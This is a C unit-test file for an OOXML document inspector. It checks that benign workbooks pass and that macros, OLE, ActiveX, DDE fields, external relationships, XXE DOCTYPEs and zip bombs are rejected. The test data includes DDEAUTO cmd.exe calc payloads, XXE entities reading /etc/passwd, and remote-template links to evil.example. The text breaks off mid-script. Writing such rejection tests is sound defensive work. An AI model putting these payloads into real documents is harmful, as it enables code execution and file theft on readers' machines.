/*
 * tests/unit/ooxml.c: the OOXML check (inspect/ooxml.c) and the bounded XML
 * reader under it (inspect/xml.c). Packages are built at test time with
 * /usr/bin/python3 (zipfile, openpyxl for real workbooks; python-docx and
 * LibreOffice when installed, else skipped with a message) into a temporary
 * directory: real producers' files must pass; every hostile part
 * (macros, OLE, Excel 4 sheets, external relationships, DDE, ActiveX,
 * DOCTYPEs in UTF-8 and UTF-16, encryption, limits) must be rejected.
 */
#include <sys/stat.h>
#include <sys/types.h>

#include <check.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "inspect/checks.h"
#include "inspect/xml.h"

static const struct policy defaults = {
	.max_upload = 4ULL << 30, .archive_members = 10000, .archive_ratio = 100,
	.archive_ratio_min = 1 << 20, .archive_depth = 3, .archive_expanded = 16ULL << 30,
	.path_max = 1024, .inspect_seconds = 120, .xml_depth = 256,
	.xml_part_max = 64 << 20, .workbook_rows = 10000,
};
static struct policy pol;
static char tmpdir[64];

/* Package writers: write(parts) with (name, bytes|str) pairs; xlsx(), docx()
 * and pptx() give minimal packages to extend; ct() and rels() the XML. */
static const char prelude[] =
"import sys, zipfile, io, struct, subprocess, os\n"
"out = sys.argv[1]\n"
"H = '<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\\n'\n"
"RT = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/'\n"
"def ct(overrides=(), defaults=()):\n"
"    d = ''.join('<Default Extension=\"%s\" ContentType=\"%s\"/>' % x for x in\n"
"        [('rels', 'application/vnd.openxmlformats-package.relationships+xml'),\n"
"         ('xml', 'application/xml')] + list(defaults))\n"
"    o = ''.join('<Override PartName=\"%s\" ContentType=\"%s\"/>' % x for x in overrides)\n"
"    return H + '<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">' + d + o + '</Types>'\n"
"def rels(items):\n"
"    r = ''.join('<Relationship Id=\"%s\" Type=\"%s\" Target=\"%s\"%s/>' % (i, t if t.startswith('http') else RT + t,\n"
"        tg, ' TargetMode=\"%s\"' % m if m else '') for (i, t, tg, m) in items)\n"
"    return H + '<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">' + r + '</Relationships>'\n"
"def zipbytes(parts):\n"
"    b = io.BytesIO()\n"
"    with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED) as z:\n"
"        for name, data in parts: z.writestr(name, data)\n"
"    return b.getvalue()\n"
"def write(parts):\n"
"    open(out, 'wb').write(zipbytes(parts))\n"
"WB = H + '<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"' + RT[:-1] + '\"><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>'\n"
"SHEET = H + '<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>%s</sheetData></worksheet>'\n"
"XMAIN = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'\n"
"def xlsx(extra=(), overrides=(), wbrels=(), sheet='', wb=WB, main=XMAIN, ctxml=None, toprels=()):\n"
"    return [('[Content_Types].xml', ctxml if ctxml is not None else ct([('/xl/workbook.xml', main),\n"
"              ('/xl/worksheets/sheet1.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml')] + list(overrides))),\n"
"            ('_rels/.rels', rels([('rId1', 'officeDocument', 'xl/workbook.xml', None)] + list(toprels))),\n"
"            ('xl/workbook.xml', wb),\n"
"            ('xl/_rels/workbook.xml.rels', rels([('rId1', 'worksheet', 'worksheets/sheet1.xml', None)] + list(wbrels))),\n"
"            ('xl/worksheets/sheet1.xml', SHEET % sheet)] + list(extra)\n"
"W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'\n"
"DOC = H + '<w:document xmlns:w=\"' + W + '\"><w:body>%s</w:body></w:document>'\n"
"DMAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'\n"
"def docx(body='<w:p><w:r><w:t>Hello</w:t></w:r></w:p>', extra=(), overrides=(), docrels=(), main=DMAIN):\n"
"    return [('[Content_Types].xml', ct([('/word/document.xml', main)] + list(overrides))),\n"
"            ('_rels/.rels', rels([('rId1', 'officeDocument', 'word/document.xml', None)])),\n"
"            ('word/document.xml', DOC % body),\n"
"            ('word/_rels/document.xml.rels', rels(list(docrels)))] + list(extra)\n"
"def pptx():\n"
"    return [('[Content_Types].xml', ct([('/ppt/presentation.xml', 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml')])),\n"
"            ('_rels/.rels', rels([('rId1', 'officeDocument', 'ppt/presentation.xml', None)])),\n"
"            ('ppt/presentation.xml', H + '<p:presentation xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>')]\n"
"OLE = b'\\xd0\\xcf\\x11\\xe0\\xa1\\xb1\\x1a\\xe1' + b'\\0' * 504\n"
"def field(code):\n"
"    return ('<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>' + ''.join(\n"
"        '<w:r><w:instrText xml:space=\"preserve\">%s</w:instrText></w:r>' % c for c in code) +\n"
"        '<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>'\n"
"        '<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>')\n"
"def openpyxl_book(path=None, link=False):\n"
"    import openpyxl\n"
"    wb = openpyxl.Workbook(); ws = wb.active; ws.title = 'Evidence References'\n"
"    ws.append(['Ref', 'Filename', 'Obligation', 'SHA-256'])\n"
"    ws.append(['EV-001', 'policy.pdf', 'G5.14', 'ab' * 32])\n"
"    ws['E2'] = '=LEN(B2)&\"|\"'\n"
"    if link: ws['B2'].hyperlink = 'https://secas.example/policy.pdf'\n"
"    wb.create_sheet('Notes')['A1'] = 'n'\n"
"    b = io.BytesIO(); wb.save(b); return b.getvalue()\n"
"def cfb(names):\n"
"    FREE, END = 0xFFFFFFFF, 0xFFFFFFFE\n"
"    hdr = bytearray(512); hdr[0:8] = OLE[:8]\n"
"    struct.pack_into('<HHHHH', hdr, 24, 0x3E, 3, 0xFFFE, 9, 6)\n"
"    struct.pack_into('<IIIIIIII', hdr, 40, 0, 1, 1, 0, 4096, END, 0, END)\n"
"    for i in range(109): struct.pack_into('<I', hdr, 76 + 4 * i, 0 if i == 0 else FREE)\n"
"    fat = bytearray(b'\\xff' * 512); struct.pack_into('<III', fat, 0, 0xFFFFFFFD, END, END)\n"
"    d = bytearray(512)\n"
"    def entry(i, name, typ, right=FREE, child=FREE):\n"
"        o = i * 128; n = name.encode('utf-16-le') + b'\\0\\0'; d[o:o + len(n)] = n\n"
"        struct.pack_into('<HBB', d, o + 64, len(n), typ, 1)\n"
"        struct.pack_into('<III', d, o + 68, FREE, right, child)\n"
"        struct.pack_into('<IQ', d, o + 116, END, 0)\n"
"    entry(0, 'Root Entry', 5, child=1)\n"
"    for i, nm in enumerate(names): entry(i + 1, nm, 2, right=(i + 2) if i + 1 < len(names) else FREE)\n"
"    return bytes(hdr + fat + d)\n";

/* Runs SCRIPT (after the prelude) to write a file; returns its path. */
static const char *
build(const char *script)
{
	static char path[128];
	static int seq;
	char cmd[256];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%d.bin", tmpdir, seq++);
	snprintf(cmd, sizeof(cmd), "/usr/bin/python3 - '%s'", path);
	ck_assert_ptr_nonnull(f = popen(cmd, "w"));
	fputs(prelude, f);
	fputs(script, f);
	fputs("\n", f);
	ck_assert_int_eq(pclose(f), 0);
	return path;
}

static int
inspect_path(const char *path, const char *member, struct inspect_result *res,
    enum ooxml_kind *kind)
{
	struct stat st;
	int fd, r;

	ck_assert_int_ge(fd = open(path, O_RDONLY), 0);
	ck_assert_int_eq(fstat(fd, &st), 0);
	memset(res, 0, sizeof(*res));
	res->accepted = 1;
	r = ooxml_inspect(fd, (uint64_t)st.st_size, &pol, member, res, kind);
	close(fd);
	return r;
}

/* The finding CODE (on MEMBER when not NULL), or NULL. */
static const struct finding *
find_on(const struct inspect_result *res, const char *code, const char *member)
{
	size_t i;

	for (i = 0; i < res->nfindings; i++)
		if (strcmp(res->findings[i].code, code) == 0 &&
		    (member == NULL || strcmp(res->findings[i].member, member) == 0))
			return &res->findings[i];
	return NULL;
}

static const struct finding *
find(const struct inspect_result *res, const char *code)
{
	return find_on(res, code, NULL);
}

static void
accepted_path(const char *path, enum ooxml_kind want)
{
	struct inspect_result res;
	enum ooxml_kind kind;

	ck_assert_int_eq(inspect_path(path, "", &res, &kind), 0);
	if (res.nfindings > 0)
		ck_abort_msg("unexpected finding %s %s: %s", res.findings[0].code,
		    res.findings[0].member, res.findings[0].detail);
	ck_assert_int_eq(res.accepted, 1);
	ck_assert_int_eq(kind, want);
}

static void
accepted(const char *script, enum ooxml_kind want)
{
	accepted_path(build(script), want);
}

/* Expects the finding CODE, on MEMBER when not NULL, and a rejection. */
static void
rejected(const char *script, const char *code, const char *member)
{
	struct inspect_result res;
	const struct finding *f;
	enum ooxml_kind kind;

	(void)inspect_path(build(script), "", &res, &kind);
	f = find_on(&res, code, member);
	ck_assert_msg(f != NULL, "expected %s on %s, got %zu findings%s%s %s %s", code,
	    member != NULL ? member : "any member", res.nfindings,
	    res.nfindings ? ": " : "", res.nfindings ? res.findings[0].code : "",
	    res.nfindings ? res.findings[0].member : "", res.nfindings ? res.findings[0].detail : "");
	ck_assert_int_eq(res.accepted, 0);
}

static void
setup(void)
{
	pol = defaults;
}

/* ---- benign ---- */

START_TEST(ooxml_accepts_openpyxl_workbook)
{
	accepted("open(out, 'wb').write(openpyxl_book())", OOXML_XLSX);
}
END_TEST

START_TEST(ooxml_accepts_openpyxl_web_hyperlink)
{
	accepted("open(out, 'wb').write(openpyxl_book(link=True))", OOXML_XLSX);
}
END_TEST

START_TEST(ooxml_accepts_minimal_docx)
{
	accepted("write(docx())", OOXML_DOCX);
}
END_TEST

START_TEST(ooxml_accepts_python_docx)
{
	if (system("/usr/bin/python3 -c 'import docx' 2>/dev/null") != 0) {
		printf("skipped: python-docx is not installed\n");
		return;
	}
	accepted("import docx\nd = docx.Document(); d.add_paragraph('Evidence'); d.save(out)",
	    OOXML_DOCX);
}
END_TEST

START_TEST(ooxml_accepts_libreoffice_output)
{
	static const char *const conv[] = { "xlsx", "docx" };
	char script[1024];

	if (system("command -v soffice >/dev/null 2>&1") != 0) {
		printf("skipped: LibreOffice (soffice) is not installed\n");
		return;
	}
	if (_i == 1 && access("/usr/lib/libreoffice/program/libswlo.so", R_OK) != 0) {
		printf("skipped: LibreOffice Writer is not installed\n");
		return;
	}
	snprintf(script, sizeof(script),
	    "d = os.path.dirname(out); src = os.path.join(d, 'lo-src.%s')\n"
	    "open(src, 'w').write('ref,n,total\\nEV-1,2,=B2*2\\nEV-2,3,=SUM(B2:B3)\\n' if '%s' == 'xlsx' else 'Evidence text\\n')\n"
	    "src2 = src.replace('.%s', '.csv' if '%s' == 'xlsx' else '.txt'); os.rename(src, src2)\n"
	    "subprocess.run(['soffice', '--headless', '--convert-to', '%s', '--outdir', d, src2],"
	    " check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
	    "os.rename(os.path.splitext(src2)[0] + '.%s', out)\n",
	    conv[_i], conv[_i], conv[_i], conv[_i], conv[_i], conv[_i]);
	accepted(script, _i == 0 ? OOXML_XLSX : OOXML_DOCX);
}
END_TEST

START_TEST(ooxml_accepts_minimal_pptx)
{
	accepted("write(pptx())", OOXML_PPTX);
}
END_TEST

START_TEST(ooxml_accepts_docx_hyperlink_and_fields)
{
	accepted("write(docx(body=field([' HYPERLINK \"https://x/DDE\" ']) + field([' PAGE ']) + "
	    "'<w:p><w:fldSimple w:instr=\" DATE \"/></w:p>', "
	    "docrels=[('rId9', 'hyperlink', 'https://secas.example/', 'External'), "
	    "('rId8', 'hyperlink', 'mailto:secas@example.org', 'External')]))", OOXML_DOCX);
}
END_TEST

START_TEST(ooxml_accepts_pipe_inside_formula_strings)
{
	accepted("write(xlsx(sheet='<row r=\"1\"><c r=\"A1\"><f>\"a|b\"&amp;&apos;x|y&apos;!A1</f></c></row>'))",
	    OOXML_XLSX);
}
END_TEST

START_TEST(ooxml_accepts_embedded_chart_workbook)
{
	accepted("write(docx(extra=[('word/embeddings/Microsoft_Excel_Worksheet.xlsx', openpyxl_book())]))",
	    OOXML_DOCX);
}
END_TEST

START_TEST(ooxml_accepts_utf16_part)
{
	accepted("p = xlsx(); p[2] = ('xl/workbook.xml', WB.replace('UTF-8', 'UTF-16').encode('utf-16'))\n"
	    "write(p)", OOXML_XLSX);
}
END_TEST

START_TEST(ooxml_ignores_plain_zip)
{
	struct inspect_result res;
	enum ooxml_kind kind;

	ck_assert_int_eq(inspect_path(build("write([('a.txt', 'x'), ('vbaProject.bin', OLE)])"),
	    "", &res, &kind), 0);
	ck_assert_int_eq(kind, OOXML_NONE);
	ck_assert_int_eq(res.nfindings, 0);
}
END_TEST

START_TEST(ooxml_ignores_non_zip)
{
	struct inspect_result res;
	enum ooxml_kind kind;

	ck_assert_int_eq(inspect_path(build("open(out, 'w').write('just text, not a package')"),
	    "", &res, &kind), 0);
	ck_assert_int_eq(kind, OOXML_NONE);
	ck_assert_int_eq(res.nfindings, 0);
	ck_assert_int_eq(inspect_path(build("open(out, 'wb').write(cfb(['WordDocument']))"),
	    "", &res, &kind), 0);
	ck_assert_int_eq(kind, OOXML_NONE);
	ck_assert_int_eq(res.nfindings, 0);
}
END_TEST

/* ---- macros and OLE ---- */

START_TEST(ooxml_rejects_macro_enabled_workbook)
{
	struct inspect_result res;
	enum ooxml_kind kind;

	(void)inspect_path(build("write(xlsx(main='application/vnd.ms-excel.sheet.macroEnabled.main+xml'))"),
	    "", &res, &kind);
	ck_assert_ptr_nonnull(find(&res, "ooxml-macro-enabled"));
	ck_assert_int_eq(kind, OOXML_XLSX);   /* an .xlsm is still a workbook, a rejected one */
	ck_assert_int_eq(res.accepted, 0);
}
END_TEST

START_TEST(ooxml_rejects_macro_enabled_document)
{
	rejected("write(docx(main='application/vnd.ms-word.document.macroEnabled.main+xml'))",
	    "ooxml-macro-enabled", "[Content_Types].xml");
}
END_TEST

START_TEST(ooxml_rejects_vba_project)
{
	const char *s = "write(xlsx(extra=[('xl/vbaProject.bin', OLE)], "
	    "wbrels=[('rId9', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', "
	    "'vbaProject.bin', None)], overrides=[('/xl/vbaProject.bin', 'application/vnd.ms-office.vbaProject')]))";

	rejected(s, "ooxml-vba-project", "xl/vbaProject.bin");
	rejected(s, "ooxml-ole-part", "xl/vbaProject.bin");
}
END_TEST

START_TEST(ooxml_rejects_vba_project_any_case)
{
	rejected("write(xlsx(extra=[('XL/VBAPROJECT.BIN', b'not ole')]))", "ooxml-vba-project",
	    "XL/VBAPROJECT.BIN");
}
END_TEST

START_TEST(ooxml_rejects_vba_content_type_alone)
{
	rejected("write(docx(overrides=[('/word/vbaData.xml', 'application/vnd.ms-word.vbaData+xml')]))",
	    "ooxml-vba-project", NULL);
}
END_TEST

START_TEST(ooxml_rejects_ole_part_whatever_its_name)
{
	rejected("write(xlsx(extra=[('xl/media/image1.png', OLE)]))", "ooxml-ole-part",
	    "xl/media/image1.png");
}
END_TEST

START_TEST(ooxml_rejects_ole_object_embedding)
{
	const char *s = "write(docx(extra=[('word/embeddings/oleObject1.bin', OLE)], "
	    "docrels=[('rId5', 'oleObject', 'embeddings/oleObject1.bin', None)]))";

	rejected(s, "ooxml-ole-object", "word/embeddings/oleObject1.bin");
	rejected(s, "ooxml-ole-part", NULL);
}
END_TEST

START_TEST(ooxml_rejects_embedded_non_package)
{
	rejected("write(docx(extra=[('word/embeddings/package.exe', b'MZ...')]))", "ooxml-ole-object",
	    "word/embeddings/package.exe");
}
END_TEST

START_TEST(ooxml_rejects_macro_in_embedded_workbook)
{
	rejected("write(docx(extra=[('word/embeddings/Microsoft_Excel_Worksheet.xlsx', "
	    "zipbytes(xlsx(extra=[('xl/vbaProject.bin', OLE)])))]))", "ooxml-vba-project",
	    "word/embeddings/Microsoft_Excel_Worksheet.xlsx/xl/vbaProject.bin");
}
END_TEST

START_TEST(ooxml_rejects_activex)
{
	rejected("write(docx(extra=[('word/activeX/activeX1.xml', H + '<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\"/>'), "
	    "('word/activeX/activeX1.bin', OLE)], overrides=[('/word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml')]))",
	    "ooxml-activex", NULL);
}
END_TEST

/* ---- Excel 4 macro sheets ---- */

START_TEST(ooxml_rejects_macrosheet_part)
{
	rejected("write(xlsx(extra=[('xl/macrosheets/sheet1.xml', SHEET % '')]))", "ooxml-macrosheet",
	    "xl/macrosheets/sheet1.xml");
}
END_TEST

START_TEST(ooxml_rejects_macrosheet_behind_worksheet_name)
{
	rejected("write(xlsx(extra=[('xl/worksheets/sheet2.xml', SHEET % '')], "
	    "overrides=[('/xl/worksheets/sheet2.xml', 'application/vnd.ms-excel.intlmacrosheet+xml')], "
	    "wbrels=[('rId7', 'http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet', "
	    "'worksheets/sheet2.xml', None)]))", "ooxml-macrosheet", NULL);
}
END_TEST

/* ---- external relationships and DDE ---- */

START_TEST(ooxml_rejects_remote_template)
{
	rejected("write(docx(extra=[('word/settings.xml', H + '<w:settings xmlns:w=\"' + W + '\"/>'), "
	    "('word/_rels/settings.xml.rels', rels([('rId1', 'attachedTemplate', "
	    "'http://evil.example/t.dotm', 'External')]))]))", "ooxml-external-relationship",
	    "word/_rels/settings.xml.rels");
}
END_TEST

START_TEST(ooxml_rejects_external_ole_link)
{
	rejected("write(docx(docrels=[('rId5', 'oleObject', 'mhtml:http://evil/!x-usc:http://evil/', "
	    "'External')]))", "ooxml-external-relationship", NULL);
}
END_TEST

START_TEST(ooxml_rejects_unc_hyperlink)
{
	rejected("write(docx(docrels=[('rId5', 'hyperlink', '\\\\\\\\evil\\\\share\\\\x', 'External')]))",
	    "ooxml-external-relationship", NULL);
	rejected("write(docx(docrels=[('rId5', 'hyperlink', 'file:///c:/windows/system32/calc.exe', 'External')]))",
	    "ooxml-external-relationship", NULL);
}
END_TEST

START_TEST(ooxml_rejects_external_image)
{
	rejected("write(docx(docrels=[('rId5', 'image', 'http://tracker.example/p.png', 'external')]))",
	    "ooxml-external-relationship", NULL);
}
END_TEST

START_TEST(ooxml_rejects_ddeauto_field)
{
	rejected("write(docx(body=field([' DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc\" '])))",
	    "ooxml-dde", "word/document.xml");
}
END_TEST

START_TEST(ooxml_rejects_dde_field_split_over_runs)
{
	rejected("write(docx(body=field([' D', 'de', 'AUTO cmd \"/c calc\"'])))", "ooxml-dde", NULL);
}
END_TEST

START_TEST(ooxml_rejects_dde_in_nested_field)
{
	rejected("write(docx(body='<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
	    "<w:r><w:instrText> IF 1 = 1 \"</w:instrText></w:r>' + field([' DDE cmd \"/c calc\" ']) + '</w:p>'))",
	    "ooxml-dde", NULL);
}
END_TEST

START_TEST(ooxml_rejects_dde_fldsimple)
{
	rejected("write(docx(body='<w:p><w:fldSimple w:instr=\" DDE cmd /c calc \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'))",
	    "ooxml-dde", NULL);
}
END_TEST

START_TEST(ooxml_rejects_dde_in_header_part)
{
	rejected("write(docx(extra=[('word/header1.xml', H + '<w:hdr xmlns:w=\"' + W + '\">' + "
	    "field([' DDEAUTO cmd x ']) + '</w:hdr>')]))", "ooxml-dde", "word/header1.xml");
}
END_TEST

START_TEST(ooxml_rejects_dde_link_part)
{
	rejected("write(xlsx(extra=[('xl/externalLinks/externalLink1.xml', H + "
	    "'<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
	    "<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>')]))", "ooxml-dde",
	    "xl/externalLinks/externalLink1.xml");
}
END_TEST

START_TEST(ooxml_rejects_dde_formula)
{
	rejected("write(xlsx(sheet='<row r=\"1\"><c r=\"A1\"><f>cmd|&apos; /C calc&apos;!A0</f></c></row>'))",
	    "ooxml-dde", "xl/worksheets/sheet1.xml");
}
END_TEST

/* ---- XML ---- */

START_TEST(ooxml_rejects_doctype_internal_entities)
{
	rejected("p = xlsx(); p[2] = ('xl/workbook.xml', WB.replace('<workbook', "
	    "'<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><workbook'))\n"
	    "write(p)", "ooxml-doctype", "xl/workbook.xml");
}
END_TEST

START_TEST(ooxml_rejects_doctype_external_entity)
{
	rejected("write(xlsx(ctxml=ct().replace('<Types', '<!DOCTYPE Types SYSTEM \"file:///etc/passwd\"><Types')))",
	    "ooxml-doctype", "[Content_Types].xml");
}
END_TEST

START_TEST(ooxml_rejects_doctype_in_rels)
{
	rejected("p = xlsx(); p[1] = ('_rels/.rels', rels([('rId1', 'officeDocument', 'xl/workbook.xml', None)]).replace("
	    "'<Relationships', '<!DOCTYPE r [<!ENTITY x SYSTEM \"http://evil/x\">]><Relationships'))\nwrite(p)",
	    "ooxml-doctype", "_rels/.rels");
}
END_TEST

START_TEST(ooxml_rejects_doctype_utf16)
{
	static const char *const enc[] = {
		"utf-16",        /* little-endian with a BOM */
		"utf-16-be",     /* big-endian without a BOM: add one */
		"utf-16-le",     /* no BOM at all */
	};
	char script[512];

	snprintf(script, sizeof(script),
	    "x = WB.replace('UTF-8', 'UTF-16').replace('<workbook', '<!DOCTYPE w [<!ENTITY e \"e\">]><workbook')\n"
	    "b = x.encode('%s')\n"
	    "if '%s' == 'utf-16-be': b = b'\\xfe\\xff' + b\n"
	    "p = xlsx(); p[2] = ('xl/workbook.xml', b); write(p)", enc[_i], enc[_i]);
	rejected(script, "ooxml-doctype", "xl/workbook.xml");
}
END_TEST

START_TEST(ooxml_rejects_unknown_encoding)
{
	rejected("p = xlsx(); p[2] = ('xl/workbook.xml', WB.replace('UTF-8', 'UTF-7')); write(p)",
	    "ooxml-xml-encoding", "xl/workbook.xml");
}
END_TEST

START_TEST(ooxml_rejects_utf32_part)
{
	/* expat cannot even read the declaration: not well-formed */
	rejected("p = xlsx(); p[2] = ('xl/workbook.xml', WB.replace('UTF-8', 'UTF-32').encode('utf-32')); write(p)",
	    "ooxml-xml-invalid", "xl/workbook.xml");
}
END_TEST

START_TEST(ooxml_rejects_deep_xml)
{
	pol.xml_depth = 256;
	rejected("write(xlsx(sheet='<x>' * 300 + '</x>' * 300))", "ooxml-xml-depth",
	    "xl/worksheets/sheet1.xml");
}
END_TEST

START_TEST(ooxml_rejects_large_part)
{
	pol.xml_part_max = 64 * 1024;
	rejected("write(xlsx(sheet='<row/>' * 20000))", "ooxml-part-size", "xl/worksheets/sheet1.xml");
}
END_TEST

START_TEST(ooxml_rejects_malformed_xml)
{
	rejected("p = xlsx(); p[2] = ('xl/workbook.xml', H + '<workbook><a></workbook>'); write(p)",
	    "ooxml-xml-invalid", "xl/workbook.xml");
}
END_TEST

START_TEST(ooxml_rejects_doctype_in_svg)
{
	rejected("write(docx(extra=[('word/media/image1.svg', '<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><svg>&x;</svg>')]))",
	    "ooxml-doctype", "word/media/image1.svg");
}
END_TEST

/* ---- encryption, limits ---- */

START_TEST(ooxml_rejects_encrypted_package)
{
	struct inspect_result res;
	enum ooxml_kind kind;

	ck_assert_int_eq(inspect_path(build("open(out, 'wb').write(cfb(['EncryptionInfo', 'EncryptedPackage']))"),
	    "", &res, &kind), 0);
	ck_assert_ptr_nonnull(find(&res, "ooxml-encrypted"));
	ck_assert_int_eq(kind, OOXML_NONE);
	ck_assert_int_eq(res.accepted, 0);
}
END_TEST

START_TEST(ooxml_rejects_password_zip_entry)
{
	char script[512];

	if (system("command -v zip >/dev/null 2>&1") != 0) {
		printf("skipped: zip is not installed\n");
		return;
	}
	snprintf(script, sizeof(script),
	    "d = out + '.d'; os.makedirs(d + '/xl')\n"
	    "for n, data in xlsx():\n"
	    "    os.makedirs(os.path.dirname(os.path.join(d, n)) or d, exist_ok=True)\n"
	    "    open(os.path.join(d, n), 'w').write(data)\n"
	    "subprocess.run(['zip', '-q', '-r', '-P', 'secret', out + '.zip', '.'], cwd=d, check=True)\n"
	    "os.rename(out + '.zip', out)");
	rejected(script, "ooxml-zip-encrypted", NULL);
}
END_TEST

START_TEST(ooxml_rejects_too_many_parts)
{
	pol.archive_members = 8;
	rejected("write(xlsx(extra=[('docProps/x%d.xml' % i, H + '<x/>') for i in range(10)]))",
	    "ooxml-limits", NULL);
}
END_TEST

START_TEST(ooxml_rejects_compression_bomb)
{
	rejected("write(xlsx(sheet=' ' * (24 << 20)))", "ooxml-limits", NULL);
}
END_TEST

START_TEST(ooxml_rejects_truncated_package)
{
	struct inspect_result res;
	enum ooxml_kind kind;
	int r;

	r = inspect_path(build("b = zipbytes(xlsx(sheet='<row/>' * 2000)); open(out, 'wb').write(b[:len(b) // 2] + b[-200:])"),
	    "", &res, &kind);
	ck_assert(r == -1 || res.accepted == 0);
	ck_assert_ptr_nonnull(find(&res, "ooxml-zip-error"));
}
END_TEST

START_TEST(ooxml_prefixes_member_path)
{
	struct inspect_result res;
	enum ooxml_kind kind;

	(void)inspect_path(build("write(xlsx(extra=[('xl/vbaProject.bin', OLE)]))"), "bundle/a.xlsx",
	    &res, &kind);
	ck_assert_ptr_nonnull(find(&res, "ooxml-vba-project"));
	ck_assert_str_eq(find(&res, "ooxml-vba-project")->member, "bundle/a.xlsx/xl/vbaProject.bin");
}
END_TEST

/* ---- xml.h on its own ---- */

static int
count_start(void *arg, const char *name, const char **attrs)
{
	(void)name;
	(void)attrs;
	++*(int *)arg;
	return 0;
}

START_TEST(xml_parses_member_by_name)
{
	struct xml_limits lim = { 256, 1 << 20, 100, NULL };
	struct xml_handler h = { count_start, NULL, NULL, NULL, '|' };
	const char *path = build("write(xlsx())");
	enum xml_err err;
	struct stat st;
	int fd, n = 0;

	h.arg = &n;
	ck_assert_int_ge(fd = open(path, O_RDONLY), 0);
	ck_assert_int_eq(fstat(fd, &st), 0);
	ck_assert_int_eq(xml_parse_zip_member(fd, (uint64_t)st.st_size, "XL/WORKBOOK.XML", &lim, &h,
	    &err), 0);
	ck_assert_int_eq(n, 3);   /* workbook, sheets, sheet */
	ck_assert_int_eq(xml_parse_zip_member(fd, (uint64_t)st.st_size, "xl/none.xml", &lim, &h,
	    &err), -1);
	ck_assert_int_eq(err, XMLERR_NOTFOUND);
	close(fd);
}
END_TEST

START_TEST(xml_rejects_duplicate_member)
{
	struct xml_limits lim = { 256, 1 << 20, 100, NULL };
	struct xml_handler h = { NULL, NULL, NULL, NULL, 0 };
	const char *path = build("write(xlsx(extra=[('XL/Workbook.xml', WB)]))");
	enum xml_err err;
	struct stat st;
	int fd;

	ck_assert_int_ge(fd = open(path, O_RDONLY), 0);
	ck_assert_int_eq(fstat(fd, &st), 0);
	ck_assert_int_eq(xml_parse_zip_member(fd, (uint64_t)st.st_size, "xl/workbook.xml", &lim, &h,
	    &err), -1);
	ck_assert_int_eq(err, XMLERR_DUPLICATE);
	close(fd);
}
END_TEST

START_TEST(xml_buffer_limits)
{
	struct xml_limits lim = { 3, 64, 0, NULL };
	struct xml_handler h = { NULL, NULL, NULL, NULL, 0 };
	enum xml_err err;
	const char *deep = "<a><b><c><d/></c></b></a>", *ok = "<a><b><c/></b></a>";
	const char *big = "<a>0123456789012345678901234567890123456789012345678901234567890123</a>";
	const char *lol = "<!DOCTYPE a [<!ENTITY x \"y\">]><a>&x;</a>";

	ck_assert_int_eq(xml_parse_buffer(ok, strlen(ok), &lim, &h, &err), 0);
	ck_assert_int_eq(xml_parse_buffer(deep, strlen(deep), &lim, &h, &err), -1);
	ck_assert_int_eq(err, XMLERR_DEPTH);
	ck_assert_int_eq(xml_parse_buffer(big, strlen(big), &lim, &h, &err), -1);
	ck_assert_int_eq(err, XMLERR_SIZE);
	ck_assert_int_eq(xml_parse_buffer(lol, strlen(lol), &lim, &h, &err), -1);
	ck_assert_int_eq(err, XMLERR_DOCTYPE);
	ck_assert_int_eq(xml_parse_buffer("<a>&x;</a>", 10, &lim, &h, &err), -1);
	ck_assert_int_eq(err, XMLERR_SYNTAX);
	ck_assert_str_eq(xml_local("http://x|sheet", '|'), "sheet");
	ck_assert_str_eq(xml_local("w:t", 0), "t");
}
END_TEST

/* ---- time and work (issue 14) ---- */

/* An xlsx holding 300 entries named [Content_Types].xml, each 60 MiB of
 * XML deflated to ~60 KB: every one was parsed in full by the
 * identification pass, before any budget or clock applied (minutes of
 * work for an 18 MB file). The zip is written by hand: zlib once, the same
 * deflated bytes under every local header. */
static const char ct_copies[] =
"import zlib\n"
"def deflate(data):\n"
"    c = zlib.compressobj(9, zlib.DEFLATED, -15); return c.compress(data) + c.flush()\n"
"def rawzip(entries):\n"
"    body = bytearray(); cd = bytearray()\n"
"    for name, data, comp in entries:\n"
"        nb = name.encode(); crc = zlib.crc32(data); off = len(body)\n"
"        body += struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 8, 0, 0, crc, len(comp), len(data), len(nb), 0) + nb + comp\n"
